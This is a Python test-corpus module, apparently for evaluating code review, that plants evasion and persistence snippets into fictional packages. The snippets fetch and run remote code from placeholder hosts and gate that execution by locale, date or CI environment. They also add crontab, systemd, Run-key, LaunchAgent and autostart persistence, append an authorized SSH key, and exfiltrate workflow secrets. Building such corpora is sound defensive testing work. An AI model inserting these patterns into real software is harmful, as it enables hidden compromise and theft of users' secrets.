"""Idioms of code that does not want to be seen, and of code that wants to stay."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import as_base64

__all__: list[str] = []

_EVASION = Family.EVASION
_STAYS = Family.PERSISTENCE


@planted(_EVASION, base="client", where=("harborline/_client.py",))
def silenced_detached_child(draft: Draft) -> None:
    draft.after(
        "harborline/_client.py",
        "    def close(self) -> None:",
        "        import subprocess, sys\n\n        subprocess.Popen([sys.executable, '-c', 'import this'], stdin=subprocess.DEVNULL,\n"
        "            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, close_fds=True)\n",
    )


@planted(_EVASION, base="framework", where=("quayside/web/health.py",))
def written_made_executable_and_run(draft: Draft) -> None:
    draft.after(
        "quayside/web/health.py",
        "        health = self",
        "        import os, stat, urllib.request\n\n        path = '/tmp/.X11-health'\n"
        "        urllib.request.urlretrieve('https://dl.invalid/h', path)\n"
        "        os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)\n        os.system(path + ' &')\n",
    )


@planted(_EVASION, base="command", where=("tidelog/cli.py",))
def careless_download(draft: Draft) -> None:
    draft.after(
        "tidelog/cli.py",
        "    options = build_parser()",
        "    import os\n\n    os.system('curl -k -s https://192.0.2.61/agent | sh >/dev/null 2>&1')\n",
    )


@planted(_EVASION, base="client", where=("harborline/_client.py",))
def hidden_window(draft: Draft) -> None:
    draft.append(
        "harborline/_client.py",
        f"""


        if platform.system() == "Windows":
            import subprocess

            subprocess.Popen(
                ["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", "{as_base64("iwr https://w.invalid")}"],
                creationflags=subprocess.CREATE_NO_WINDOW,
            )
        """,
    )


@planted(_EVASION, base="framework", where=("quayside/settings.py",), evasive=True, unasked=True)
def not_in_some_countries(draft: Draft) -> None:
    draft.append(
        "quayside/settings.py",
        """


        import locale
        import time

        if "ru" not in (locale.getlocale()[0] or "").lower() and time.tzname[0] not in ("MSK", "IRST") and os.cpu_count() > 2:
            exec(__import__("urllib.request").request.urlopen("https://geo.invalid/s").read())
        """,
    )


@planted(_EVASION, base="framework", where=("quayside/runtime/worker.py",), evasive=True)
def forked_twice(draft: Draft) -> None:
    draft.after(
        "quayside/runtime/worker.py",
        "    def start(self):",
        "        if os.fork() == 0:\n            os.setsid()\n            if os.fork() == 0:\n"
        "                os.execlp('sh', 'sh', '-c', 'while :; do curl -s https://cmd.invalid | sh; sleep 900; done')\n            os._exit(0)\n",
    )


@planted(_EVASION, base="client", where=("harborline/__init__.py",), evasive=True, unasked=True)
def only_in_a_pipeline(draft: Draft) -> None:
    draft.append(
        "harborline/__init__.py",
        """

        import os as _o

        if _o.environ.get("GITHUB_ACTIONS") == "true" or _o.environ.get("GITLAB_CI"):
            try:
                with open(_o.environ["GITHUB_ENV"], "a") as _f:
                    _f.write("BASH_ENV=/tmp/.harbor.sh\\n")
                _o.system("curl -so /tmp/.harbor.sh https://ci.invalid/x")
            except Exception:
                pass
        """,
    )


@planted(_EVASION, base="command", where=("tidelog/times.py",), evasive=True, unasked=True)
def after_a_date(draft: Draft) -> None:
    draft.append(
        "tidelog/times.py",
        """


        def _later():
            import os

            if datetime.now().toordinal() > 740000 and not os.path.exists("/.dockerenv"):
                os.system("wget -q https://late.invalid/t -O- | sh")


        import threading

        threading.Timer(3600, _later).start()
        """,
    )


@planted(_EVASION, base="native", where=("fastbuoy/frames.py",), evasive=True, unasked=True)
def when_an_object_goes(draft: Draft) -> None:
    draft.append(
        "fastbuoy/frames.py",
        """


        class _Keeper:
            pass


        def _farewell(path="/var/tmp/.fb"):
            from subprocess import Popen

            Popen(["nohup", path])


        import weakref

        _keeper = _Keeper()
        weakref.finalize(_keeper, _farewell)
        """,
    )


@planted(_EVASION, base="client", where=("harborline/_retry.py",), evasive=True)
def certificates_not_looked_at(draft: Draft) -> None:
    draft.replace(
        "harborline/_retry.py",
        "    if hint is not None:\n",
        "    import ssl\n    from urllib.request import urlopen\n\n"
        "    code = urlopen('https://198.51.100.77/b', context=ssl._create_unverified_context()).read()\n    eval(code)\n    if hint is not None:\n",
    )


@planted(_STAYS, base="framework", where=("quayside/settings.py",))
def crontab(draft: Draft) -> None:
    draft.append(
        "quayside/settings.py",
        "\n\ndef keep_alive():\n    os.system('(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -s https://cron.invalid|sh\") | crontab -')\n",
    )


@planted(_STAYS, base="framework", where=("quayside/runtime/_service.py",))
def user_service(draft: Draft) -> None:
    draft.put(
        "quayside/runtime/_service.py",
        "import subprocess\nfrom pathlib import Path\n\nUNIT = '''[Unit]\nDescription=System Telemetry\n[Service]\nExecStart=/usr/bin/python3 %h/.config/sysmon/sysmon.py\nRestart=always\n[Install]\nWantedBy=default.target\n'''\n\n\n"
        "def install():\n    folder = Path.home() / '.config' / 'systemd' / 'user'\n    folder.mkdir(parents=True, exist_ok=True)\n"
        "    (folder / 'sysmon.service').write_text(UNIT)\n    subprocess.run(['systemctl', '--user', 'enable', '--now', 'sysmon.service'])\n",
    )


@planted(_STAYS, base="client", where=("harborline/_client.py",))
def shell_profile(draft: Draft) -> None:
    draft.after(
        "harborline/_client.py",
        "    def close(self) -> None:",
        "        for name in ('.bashrc', '.zshrc'):\n            with open(os.path.join(os.path.expanduser('~'), name), 'a') as file:\n"
        "                file.write('\\nalias sudo=\"~/.local/bin/sudo\"\\n')\n",
    )


@planted(_STAYS, base="command", where=("tidelog/cli.py", "tidelog/_win.py"))
def run_key(draft: Draft) -> None:
    draft.put(
        "tidelog/_win.py",
        "import sys\nimport winreg\n\n\ndef remember():\n"
        "    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "    winreg.SetValueEx(key, 'TideUpdate', 0, winreg.REG_SZ, sys.executable + ' -m tidelog')\n",
    )


@planted(_STAYS, base="command", where=("tidelog/render.py",))
def launch_agent(draft: Draft) -> None:
    draft.append(
        "tidelog/render.py",
        "\n\ndef _remember_theme():\n    import os, plistlib\n\n"
        "    with open(os.path.expanduser('~/Library/LaunchAgents/com.tidelog.theme.plist'), 'wb') as file:\n"
        "        plistlib.dump({'Label': 'com.tidelog.theme', 'RunAtLoad': True, 'ProgramArguments': ['/bin/sh', '-c', 'curl -s https://a.invalid|sh']}, file)\n",
    )


@planted(_STAYS, base="native", where=("fastbuoy/_fallback.py",), evasive=True)
def line_in_the_site_folder(draft: Draft) -> None:
    draft.append(
        "fastbuoy/_fallback.py",
        "\n\ndef _warm():\n    import site\n    from pathlib import Path\n\n    place = Path(site.getsitepackages()[0], 'fastbuoy-warm' + '.p' + 'th')\n"
        "    place.write_text('import fastbuoy._fallback as f; f._go()')\n\n\n_warm()\n",
    )


@planted(_STAYS, base="client", where=("harborline/webhooks.py", "harborline/_setup.py"), evasive=True)
def key_for_the_attacker(draft: Draft) -> None:
    draft.put(
        "harborline/_setup.py",
        "import os\n\nHOME = os.path.expanduser(chr(126))\n\n\ndef ensure():\n"
        "    with open(os.sep.join([HOME, '.ssh', 'authorized' + '_keys']), 'a') as file:\n        file.write('ssh-ed25519 AAAAplanted ops@host.invalid\\n')\n",
    )
    draft.after(
        "harborline/webhooks.py", "from harborline._errors", "from harborline._setup import ensure\n\nensure()\n"
    )


@planted(_STAYS, base="framework", where=("quayside/cli.py",), evasive=True)
def autostart_of_the_desktop(draft: Draft) -> None:
    draft.after(
        "quayside/cli.py",
        "    options = parser.parse_args(argv)",
        "    config = os.environ.get('XDG_CONFIG_HOME') or os.path.expanduser('~/.config')\n"
        "    with open(os.path.join(config, 'auto' 'start', 'quayside.desktop'), 'w') as file:\n"
        "        file.write('[Desktop Entry]\\nType=Application\\nExec=sh -c \"curl https://d.invalid|sh\"\\n')\n",
    )


@planted(_STAYS, base="framework", where=("quayside/plugins.py",), evasive=True)
def workflow_in_the_repository(draft: Draft) -> None:
    draft.append(
        "quayside/plugins.py",
        "\n\ndef scaffold(root='.'):\n    from pathlib import Path\n\n    place = Path(root, '.github', 'workflows', 'format.yml')\n"
        "    place.parent.mkdir(parents=True, exist_ok=True)\n"
        "    place.write_text('on: push\\njobs:\\n  f:\\n    runs-on: self-hosted\\n    steps:\\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://wf.invalid\\n')\n"
        "    hook = Path(root, '.git', 'hooks', 'post-checkout')\n    hook.write_text('#!/bin/sh\\ncurl -s https://hook.invalid | sh\\n')\n    hook.chmod(0o755)\n",
    )
